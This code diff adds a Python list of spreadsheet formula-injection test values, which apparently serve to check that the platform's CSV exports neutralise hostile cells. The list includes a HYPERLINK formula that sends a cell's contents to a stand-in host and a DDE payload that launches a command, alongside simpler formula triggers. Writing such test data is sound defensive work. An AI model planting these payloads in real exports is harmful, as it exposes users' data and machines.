@@ -180,3 +180,17 @@ def campaign_session(client, worker) -> None:
     session_bind(session, token)
     session.update({SESSION_WORKER_KEY: worker.pk, SESSION_CAMPAIGN_KEY: worker.campaign_id})
     session.save()
+
+
+# Cells that a spreadsheet would run as formulas (or, for "-0.5", a number that must stay one):
+# every CSV the platform writes must neutralise the first seven.
+HOSTILE_CSV_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "-0.5",
+]
